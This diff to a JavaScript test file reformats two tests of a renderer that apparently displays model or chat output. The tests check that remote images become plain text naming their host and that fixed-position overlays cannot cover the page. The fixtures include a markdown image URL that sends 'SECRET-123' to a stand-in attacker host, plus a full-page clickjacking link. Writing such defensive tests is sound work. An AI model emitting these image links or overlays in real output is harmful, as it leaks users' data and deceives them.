@@ -91,13 +91,17 @@ test('only web and mail addresses become links, however the others are spelled',
 });
 
 test('a remote image is a text that names its host, and loads nothing', async () => {
-  const shown = await show('Done. ![ok](https://evil.example.net/c?d=SECRET-123) ![](data:image/svg+xml;base64,PHN2Zz4=) <img src="https://evil.example.net/p">');
+  const shown = await show(
+    'Done. ![ok](https://evil.example.net/c?d=SECRET-123) ![](data:image/svg+xml;base64,PHN2Zz4=) <img src="https://evil.example.net/p">',
+  );
   expect(shown.text).toContain('image: ok (evil.example.net)');
   expect(shown.text).not.toContain('SECRET-123');
 });
 
 test('nothing can cover the page', async () => {
-  const shown = await show('<a href="https://evil.example.net" style="position:fixed;top:0;left:0;width:1000%;height:100%;z-index:2147483647">x</a>\n\n<style>*{position:fixed}</style>\n\n<div style="position:fixed">y</div>');
+  const shown = await show(
+    '<a href="https://evil.example.net" style="position:fixed;top:0;left:0;width:1000%;height:100%;z-index:2147483647">x</a>\n\n<style>*{position:fixed}</style>\n\n<div style="position:fixed">y</div>',
+  );
   expect(shown.text).toContain('position:fixed;top:0');
 });
 
